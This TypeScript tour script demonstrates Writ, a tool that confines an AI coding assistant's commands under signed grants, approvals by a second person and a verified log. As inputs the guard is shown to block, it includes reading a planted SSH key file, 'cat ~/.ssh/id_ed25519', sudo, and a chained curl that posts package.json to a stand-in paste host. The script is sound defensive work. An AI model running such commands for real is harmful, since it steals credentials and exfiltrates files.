/**
 * `npm start`: the main job on real input, with the built program and as a user would. A sample repository and
 * assistant, a writ, a scripted session in the sandbox, an approval by a second person, the verified log.
 * Stays up until Ctrl-C; with `--exit` leaves with status 0 only if everything went as it should.
 */
import { execFileSync, spawnSync } from 'node:child_process';
import { appendFileSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { styleText } from 'node:util';
import { isMap, parseDocument } from 'yaml';

const writProgram = resolve('bin/writ');
const leave = process.argv.includes('--exit');
const place = mkdtempSync(join(tmpdir(), 'writ-tour-'));
const shop = join(place, 'shop');
const environment: NodeJS.ProcessEnv = {
  PATH: process.env['PATH'],
  TERM: process.env['TERM'],
  HOME: join(place, 'developer'),
  WRIT_HOME: join(place, 'writ-home'),
  LANG: 'C.UTF-8',
  GIT_CONFIG_NOSYSTEM: '1',
};
let surprises = 0;

interface Run {
  readonly status: number;
  readonly stdout: string;
  readonly stderr: string;
}

function writ(...args: readonly string[]): Run {
  const { status, stdout, stderr } = spawnSync(writProgram, args, {
    cwd: shop,
    env: environment,
    encoding: 'utf8',
  });
  return { status: status ?? 1, stdout, stderr };
}

/** Shows a command and what came of it, and remembers when that is not what should have. */
function show(args: readonly string[], expected: number, why: string): Run {
  const result = writ(...args);
  const words = args.map((word) => (/^[\w@%+=:,./-]+$/.test(word) ? word : `'${word}'`)).join(' ');
  const asExpected = result.status === expected;
  if (!asExpected) surprises += 1;
  print(`\n${paint('bold', `$ writ ${words}`)}   ${paint('dim', `# ${why}`)}`);
  const text = `${result.stdout}${result.stderr}`.trimEnd();
  if (text !== '') print(text.replaceAll(/^/gm, '  '));
  print(
    paint(
      asExpected ? 'green' : 'red',
      `  → exit ${result.status}${asExpected ? '' : `, expected ${expected}`}`,
    ),
  );
  return result;
}

function prepareSample(): void {
  mkdirSync(join(place, 'developer', '.ssh'), { recursive: true, mode: 0o700 });
  writeFileSync(
    join(place, 'developer', '.ssh', 'secret-canary'),
    'a private key that no assistant may read\n',
  );
  execFileSync('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-C', 'bob@tour', '-f', join(place, 'bob')]);
  mkdirSync(shop);
  const git = (...args: string[]) =>
    execFileSync('git', args, { cwd: shop, env: environment, stdio: 'ignore' });
  git('init', '--initial-branch=main');
  git('remote', 'add', 'origin', 'https://git.example/acme/shop.git');
  writeFileSync(
    join(shop, 'total.js'),
    'export const total = (prices) => prices.reduce((a, b) => a + b, 0);\n',
  );
  writeFileSync(
    join(shop, 'total.test.js'),
    "import test from 'node:test';\nimport assert from 'node:assert';\nimport { total } from './total.js';\ntest('adds up', () => assert.equal(total([1, 2]), 3));\n",
  );
  writeFileSync(
    join(shop, 'package.json'),
    `${JSON.stringify({ name: 'shop', version: '1.0.0', type: 'module', scripts: { test: 'node --test' } }, null, 2)}\n`,
  );
  git('add', '.');
  git('-c', 'user.name=Ada', '-c', 'user.email=ada@acme.example', 'commit', '-m', 'A small shop');
}

/** Bob may approve: a second person, because nobody approves what they asked for themselves. */
function addBob(): void {
  const file = join(shop, 'governance', 'organisation.yaml');
  const document = parseDocument(readFileSync(file, 'utf8'));
  const key = readFileSync(join(place, 'bob.pub'), 'utf8').trim();
  document.setIn(['people', 'bob'], document.createNode({ name: 'Bob', sshKeys: [key] }));
  const groups = document.get('groups');
  if (!isMap(groups)) throw new Error('the start has no groups');
  for (const { key: group } of groups.items) {
    const name = String(group);
    if (name !== 'enablers') document.addIn(['groups', name], 'bob');
  }
  writeFileSync(file, String(document));
}

function tour(): void {
  print(paint('bold', 'Writ: one governed command, for real'));
  print(`A sample repository, a person and an assistant, all in ${place}`);
  prepareSample();
  show(['init', '--yes'], 0, 'governance as code, with the assistant "local" enabled by its owner');
  addBob();
  show(['policy', 'check'], 0, 'Bob was added by hand as a second approver: is it all sound?');

  section('A scripted session of the assistant, under one writ');
  const issued = JSON.parse(writ('issue', '--job', 'SHOP-142', '--json').stdout) as {
    claims: { id: string };
  };
  const id = issued.claims.id;
  show(['show', id], 0, 'the grant: who, what for, where, until when, and what was proven');
  const under = ['exec', '--writ', id, '--'];
  show([...under, 'git', 'log', '--oneline'], 0, 'allowed: it only reads');
  show([...under, 'npm', 'test', '--silent'], 0, "allowed: the repository's own tests, confined");
  const secret = join(place, 'developer', '.ssh', 'secret-canary');
  show(
    [...under, 'python3', '-c', `open('${secret}')`],
    1,
    "allowed, but the developer's home is not in view",
  );
  show([...under, 'sh', '-c', 'cat ~/.ssh/id_ed25519'], 4, 'stepped up: a credential store needs evidence');
  show([...under, 'sudo', 'true'], 3, 'denied: asks for authority that no profile grants');
  const stepped = show(
    [...under, 'git', 'push', 'origin', 'main'],
    4,
    'stepped up: it would leave the machine',
  );
  show(
    ['check', '--explain', 'git status && curl -d @package.json https://paste.example'],
    4,
    'decided without running',
  );

  section('Approval by another person, over exactly this act');
  show(['approvals'], 0, 'what waits: who asks, why, and exactly what');
  const approval = /apr_[0-9a-z]+/.exec(stepped.stderr)?.[0] ?? 'none';
  show(
    ['approve', approval, '--key', join(place, 'bob'), '--reason', 'release day'],
    0,
    "signed with Bob's own key",
  );
  show(
    [...under, 'git', 'push', 'origin', 'main'],
    128,
    'allowed once; git itself fails, for there is no network inside',
  );
  show([...under, 'git', 'push', 'origin', 'main'], 4, 'an approval serves once');

  section('What happened, and the proof of it');
  show(['revoke', id, '--reason', 'the tour is over'], 0, 'a revoked writ is dead at once');
  show([...under, 'git', 'status'], 1, 'and serves nobody any more');
  show(['log', 'search', '--type', 'decision'], 0, 'every decision is an entry');
  show(['log', 'verify'], 0, 'tree, checkpoint and every entry');
}

function section(title: string): void {
  print(`\n${paint('cyan', `── ${title} ${'─'.repeat(Math.max(0, 70 - title.length))}`)}`);
}

function print(text: string): void {
  process.stdout.write(`${text}\n`);
}

function paint(style: Parameters<typeof styleText>[0], text: string): string {
  return styleText(style, text, { stream: process.stdout });
}

function cleanUp(): void {
  writ('down');
  rmSync(place, { recursive: true, force: true });
}

try {
  tour();
} catch (error) {
  surprises += 1;
  appendFileSync(process.stderr.fd, `writ: the tour broke off: ${String(error)}\n`);
}
print(
  surprises === 0 ? paint('green', '\nAll went as it should.') : paint('red', `\n${surprises} surprises.`),
);
if (leave) {
  cleanUp();
  process.exit(surprises === 0 ? 0 : 1);
}
print(
  `Writ stays up. Try it in another terminal:\n  cd ${shop} && WRIT_HOME=${environment['WRIT_HOME']} ${writProgram} status\nCtrl-C ends it.`,
);
process.on('SIGINT', () => {
  cleanUp();
  process.exit(0);
});
process.on('SIGTERM', () => {
  cleanUp();
  process.exit(0);
});
setInterval(() => {}, 1 << 30);
